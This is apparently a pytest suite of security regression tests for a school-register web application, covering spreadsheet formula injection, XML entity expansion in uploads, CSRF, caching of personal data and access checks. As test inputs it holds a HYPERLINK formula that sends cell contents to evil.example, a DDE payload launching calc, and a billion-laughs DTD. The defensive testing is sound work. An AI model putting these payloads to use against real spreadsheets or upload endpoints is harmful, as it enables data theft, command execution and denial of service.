"""Holes found when the product was attacked, each with the test that would have caught it:
formula injection and unwritable characters in XLSX, XML entities and formulas in uploads,
CSRF behind a bogus Authorization header, no-store, literal search, ages."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from documents.models import Person, Roadmap
from documents.registers_xlsx import write_people
from documents.roadmaps.export import roadmap_to_xlsx
from tests.web.test_registers_api import _import, add
from tests.web.test_roadmaps_api import upload
from tests.web.test_ui_pages import csrf_of, login
from tests.workflow.test_pairs_factories import reference  # noqa: F401

pytestmark = pytest.mark.usefixtures("reference")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
LOL = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
       '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>')


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.value is not None]


@pytest.mark.parametrize("value", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"])
def test_register_export_writes_no_live_formula(api, world, value):
    c, org = api.as_("admin1"), world.orgs["school1"]
    if value[0] in "\t\r":  # one-line fields refuse them; a multi-line request keeps them
        add(c, org, full_name="Иванов Иван", request=value)
    else:  # a name holds a letter; it may still start like a formula
        add(c, org, full_name=f"{value} Иванов", position=value)
    r = c.get(f"/api/v1/people/export.xlsx?org_id={org}")
    assert r.status_code == 200
    cells = _cells(r.data)
    assert all(t != "f" for _, t in cells)
    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v, _ in cells)


def test_every_exporter_survives_unwritable_characters():
    rows = [{"full_name": "Тест\u0001Тестов\ud800", "category": "teacher",
             "requests": [{"text": "=1+1\x0b"}]}]
    cells = _cells(write_people(rows, "Реестр\x02"))
    assert ("Тест" + "Тестов", "s") in cells
    assert ("'=1+1", "s") in cells
    roadmap = {"title": "=cmd|' /C calc'!A0", "period_start": "2026-09-01",
               "period_end": "2027-05-31", "sections": [], "items": []}
    assert all(t != "f" for _, t in _cells(roadmap_to_xlsx(roadmap)))


def _with_dtd(data: bytes, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    src, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == part:
                head, rest = body.split(b"?>", 1) if body.startswith(b"<?xml") else (b"", body)
                body = (head + b"?>" if head else b"") + LOL.encode() + rest
            dst.writestr(info, body)
    return out.getvalue()


def _book(rows) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _people_book(name="Петров Пётр"):
    return _book([["ФИО", "Категория"], [name, "педагог"]])


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_people_import_refuses_a_dtd(api, world, rt, part):
    r = _import(api.as_("admin1"), world.orgs["school1"], _with_dtd(_people_book(), part))
    assert 400 <= r.status_code < 500
    assert "DTD" in r.get_json()["error"]["message"]
    with rt.db.read_session() as s:
        assert s.scalar(select(func.count()).select_from(Person)) == 0


def test_people_import_refuses_a_formula_naming_the_cell(api, world):
    r = _import(api.as_("admin1"), world.orgs["school1"], _people_book("=1+2"))
    assert 400 <= r.status_code < 500
    assert "A2" in r.get_json()["error"]["message"]


def _roadmap_book(activity="Провести семинар"):
    return _book([["№", "Мероприятие", "Сроки", "Ответственный"],
                  ["1", activity, "до 1 октября 2026", "Директор"]])


def test_roadmap_import_refuses_a_dtd_and_a_formula_naming_the_cell(api, world, rt):
    c, org = api.as_("admin1"), world.orgs["school1"]
    r = upload(c, org, _with_dtd(_roadmap_book()), "dk.xlsx")
    assert 400 <= r.status_code < 500 and "DTD" in r.get_json()["error"]["message"]
    r = upload(c, org, _roadmap_book("=HYPERLINK(\"http://x\")"), "dk.xlsx")
    assert 400 <= r.status_code < 500 and "B2" in r.get_json()["error"]["message"]
    with rt.db.read_session() as s:
        assert s.scalar(select(func.count()).select_from(Roadmap)) == 0


def test_bogus_authorization_header_does_not_switch_off_csrf(app, world):
    c = app.test_client()
    login(c, "admin1")
    for url in ("/logout", "/notifications/read-all"):
        r = c.post(url, data={}, headers={"Authorization": "Bearer bogus"})
        assert r.status_code == 400, url
    assert c.get("/").status_code == 200  # still logged in: the logout was refused


def test_api_answers_with_personal_data_are_not_stored(api, world):
    c = api.as_("admin1")
    add(c, world.orgs["school1"])
    for url in (f"/api/v1/people?org_id={world.orgs['school1']}", "/api/v1/me",
                f"/api/v1/people/export.xlsx?org_id={world.orgs['school1']}"):
        assert c.get(url).headers["Cache-Control"] == "no-store", url


def test_search_percent_is_a_literal(api, world, make_doc):
    make_doc(title="О наставничестве")
    with_percent = make_doc(title="Охват 100% педагогов")
    c = api.as_("admin1")
    items = c.get("/api/v1/documents?q=%25").get_json()["items"]
    assert [d["id"] for d in items] == [with_percent]
    assert c.get("/api/v1/documents?q=_").get_json()["total"] == 0


def test_unknown_age_is_a_minor_and_birth_date_required_where_age_decides(api, world):
    c, org = api.as_("admin1"), world.orgs["school1"]
    for category in ("student_of_college", "graduate"):
        r = c.post("/api/v1/people", json={"org_id": org, "full_name": "Без Даты",
                                           "category": category})
        assert r.status_code == 422
        assert r.get_json()["error"]["code"] == "birth_date_required"
    kid = add(c, org, full_name="Школьник Без Даты", category="student", grade="5А")
    assert kid["minor"] is True
    assert api.as_("officer").get(f"/api/v1/people/{kid['id']}").status_code == 404


def test_same_404_for_foreign_and_missing(api, world):
    own = add(api.as_("admin1"), world.orgs["school1"])
    other = api.as_("admin3")
    foreign = other.get(f"/api/v1/people/{own['id']}")
    missing = other.get("/api/v1/people/987654321")
    assert foreign.status_code == missing.status_code == 404
    assert foreign.get_json() == missing.get_json()
    r = other.get(f"/api/v1/people?org_id={world.orgs['school1']}")
    assert r.get_json() == missing.get_json()


def test_csrf_token_page_still_works(app, world):
    c = app.test_client()
    assert csrf_of(c, "/login")


def test_docx_exports_survive_unwritable_characters():
    from documents.roadmaps.export import roadmap_to_docx

    roadmap = {"title": "План\x01", "period_start": "2026-09-01", "period_end": "2027-05-31",
               "sections": [{"number": "1", "title": "Раздел\x02"}],
               "items": [{"number": "1.1", "section": "1", "activity": "Семинар\x0b\ud800",
                          "deadline_text": "до 1 мая", "responsible_text": "Директор",
                          "result_text": "Приказ"}]}
    assert roadmap_to_docx(roadmap).startswith(b"PK")
